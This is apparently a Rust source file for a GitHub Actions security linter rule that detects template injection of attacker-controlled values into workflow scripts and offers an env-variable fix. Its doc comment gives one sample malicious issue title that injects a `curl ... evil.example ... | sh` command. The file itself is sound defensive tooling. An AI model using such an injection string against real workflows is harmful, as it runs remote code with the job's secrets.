use cw_model::github_actions::{
    ActionsFile, Expression, Quoting, Step, quoting_at, referenced_variables,
};
use cw_syntax::yaml::Node;

use super::helpers::add_nested_entry;
use crate::prelude::*;

declare_rule! {
    /// ## What it does
    /// Flags `${{ ... }}` expressions that expand text an outsider chooses into a script: a `run:`
    /// script (of a workflow step or of a composite action) or the `script:` of
    /// `actions/github-script`. Attacker-controlled means the title or body of an issue, pull request
    /// or discussion, a comment or review body, the head branch of a pull request
    /// (`github.head_ref`), commit messages and author names, and the like, read directly, through
    /// `format`, `join`, `toJSON` or `||`, or through an `env.NAME` that is set from one of them. A
    /// whole object that holds such a field (`toJSON(github.event)`) counts too.
    ///
    /// Inputs (`inputs.*`), step outputs and other values whose origin is not known from the file
    /// are not reported; `workflow_dispatch` inputs come from users with write access.
    ///
    /// ## Why is this bad?
    /// The runner pastes the expression's value into the script before the shell reads it, so the
    /// value is code: an issue titled `a"; curl -sSfL https://evil.example/x | sh; echo "` runs
    /// that command with the job's token and secrets. Through an environment variable the shell
    /// sees the value as data only.
    ///
    /// ## Example
    /// ```yaml
    /// - run: echo "Title: ${{ github.event.issue.title }}"
    /// ```
    ///
    /// Use instead:
    /// ```yaml
    /// - run: echo "Title: ${ISSUE_TITLE}"
    ///   env:
    ///     ISSUE_TITLE: ${{ github.event.issue.title }}
    /// ```
    ///
    /// ## Fix safety
    /// In a `run:` script of a POSIX shell (an explicit `bash`/`sh`, or the default shell of a
    /// Linux or macOS runner), an expression that is one context, outside single quotes and
    /// here-documents, is replaced by `${NAME}` and `NAME: ${{ context }}` is added to the step's
    /// `env:` (the runner's own `GITHUB_HEAD_REF` and existing `env` variables are reused). The
    /// script then receives the same text as data instead of code; the fix is offered only when the
    /// position of every byte is known and the name is not used otherwise.
    ///
    /// ## References
    /// - [Security hardening: understanding the risk of script injections](https://docs.github.com/en/actions/security-for-github-actions/security-guides/security-hardening-for-github-actions#understanding-the-risk-of-script-injections)
    /// - [GitHub Security Lab: untrusted input](https://securitylab.github.com/resources/github-actions-untrusted-input/)
    /// - [zizmor: template-injection](https://docs.zizmor.sh/audits/#template-injection)
    pub struct TemplateInjection {
        code: "GHA002",
        name: "template-injection",
        category: Security,
        severity: Error,
        fix: Sometimes,
        peers: [
            Zizmor("template-injection"),
            Checkov("CKV_GHA_2"),
            Actionlint("expression"),
            Kics("Run Block Injection"),
            Kics("Script Block Injection"),
        ],
    }
}

/// Where the attacker's text comes from.
enum Source {
    /// A context of the expression itself (as written).
    Direct(String),
    /// `env.NAME`, set from an attacker-controlled context.
    Env { name: String, from: String },
}

/// The attacker-controlled source an expression expands, if any.
fn source_of(file: &ActionsFile, step: &Step<'_>, e: &Expression) -> Option<Source> {
    let contexts = e.flowing_contexts();
    if let Some(c) = contexts.iter().find(|c| c.is_attacker_controlled()) {
        return Some(Source::Direct(e.context_text(c).to_string()));
    }
    contexts.iter().find_map(|c| {
        if c.root() != "env" || c.parts.len() != 2 {
            return None;
        }
        let var = step.env_var(c.key(1)?)?;
        let from = file.expressions(var.value).iter().find_map(|v| {
            let contexts = v.flowing_contexts();
            let bad = contexts.iter().find(|c| c.is_attacker_controlled())?;
            Some(v.context_text(bad).to_string())
        })?;
        Some(Source::Env {
            name: var.name.value.to_string(),
            from,
        })
    })
}

/// The environment variable name for a context: `github.event.issue.title` → `ISSUE_TITLE`.
fn env_name(path: &str) -> Option<String> {
    let rest = path
        .strip_prefix("github.event.")
        .or_else(|| path.strip_prefix("github."))?;
    let name: String = rest
        .chars()
        .map(|c| match c {
            '.' | '-' => '_',
            c => c.to_ascii_uppercase(),
        })
        .collect();
    let valid = name
        .bytes()
        .next()
        .is_some_and(|b| b.is_ascii_alphabetic() || b == b'_')
        && name.bytes().all(|b| b.is_ascii_alphanumeric() || b == b'_');
    valid.then_some(name)
}

/// The fix: `${NAME}` in the script, `NAME: ${{ context }}` in the step's `env:`.
fn env_fix(
    file: &ActionsFile,
    source: &str,
    step: &Step<'_>,
    run: &Node,
    e: &Expression,
    origin: &Source,
) -> Option<Fix> {
    if !e.exact || !step.shell().is_posix() || step.node.alias.is_some() {
        return None;
    }
    let text = run.as_str()?;
    // `|+` keeps trailing blank lines that an `env:` added after the script would take away.
    let header = source.get(run.range.start as usize..)?.lines().next()?;
    if header.starts_with('|') && header.split('#').next()?.contains('+') {
        return None;
    }
    if !matches!(
        quoting_at(text, e.text_range.start),
        Quoting::Plain | Quoting::Double
    ) {
        return None;
    }
    let context = e.expr.as_ref()?.as_context()?;
    if !context.is_plain() {
        return None;
    }
    let path = context.path();
    let (name, insert) = match origin {
        Source::Env { name, .. } => (name.clone(), false),
        Source::Direct(_) if path == "github.head_ref" => ("GITHUB_HEAD_REF".to_string(), false),
        Source::Direct(_) => {
            let name = env_name(&path)?;
            match step.env_var(&name) {
                Some(var) => {
                    let same = file.expressions(var.value).iter().any(|v| {
                        v.expr
                            .as_ref()
                            .and_then(|x| x.as_context())
                            .is_some_and(|c| c.path() == path)
                            && var.value.as_str().map(str::trim) == Some(v.text.as_str())
                    });
                    if !same {
                        return None;
                    }
                    (name, false)
                }
                None if step.has_dynamic_env() => return None,
                None => (name, true),
            }
        }
    };
    // The name must not mean something else in the script already.
    if insert
        && (text.contains(&name)
            || referenced_variables(text)
                .iter()
                .any(|v| v.eq_ignore_ascii_case(&name)))
    {
        return None;
    }
    let mut edits = vec![Edit::replace(e.range, format!("${{{name}}}"))];
    if insert {
        edits.push(add_nested_entry(
            step.node,
            source,
            "env",
            &name,
            &format!("${{{{ {} }}}}", e.inner()),
        )?);
    }
    let title = if insert {
        format!(
            "Pass `{}` through the environment variable `{name}`",
            e.inner()
        )
    } else {
        format!(
            "Use the environment variable `{name}` instead of `{}`",
            e.text
        )
    };
    Some(Fix::safe(title, edits))
}

impl Rule for TemplateInjection {
    type Input = GithubActionsInput;
    type Options = NoOptions;

    fn check(&self, input: &GithubActionsInput, ctx: &mut RuleCtx) {
        let file = &input.file;
        for step in file.steps() {
            let mut sinks: Vec<(&Node, bool)> = Vec::new();
            if let Some(run) = step.run() {
                sinks.push((run, true));
            }
            if step.uses_action("actions/github-script")
                && let Some(script) = step.input("script")
            {
                sinks.push((script, false));
            }
            for (node, is_run) in sinks {
                let place = if is_run {
                    "a `run:` script"
                } else {
                    "a `github-script` script"
                };
                for e in file.expressions(node) {
                    let Some(origin) = source_of(file, &step, e) else {
                        continue;
                    };
                    let message = match &origin {
                        Source::Direct(c) => {
                            format!("attacker-controlled `{c}` is expanded into {place}")
                        }
                        Source::Env { name, from } => format!(
                            "`env.{name}` holds attacker-controlled `{from}` and is expanded into {place}"
                        ),
                    };
                    let help = if is_run {
                        "pass the value through `env:` and use the variable (`\"$NAME\"`) in the script"
                    } else {
                        "pass the value through `env:` and read it with `process.env.NAME`"
                    };
                    let fix = if is_run {
                        env_fix(file, ctx.source(), &step, node, e, &origin)
                    } else {
                        None
                    };
                    let finding = ctx
                        .report(e.range, message)
                        .help(help)
                        .resource(step.display());
                    if let Some(fix) = fix {
                        finding.fix(fix);
                    }
                }
            }
        }
    }
}
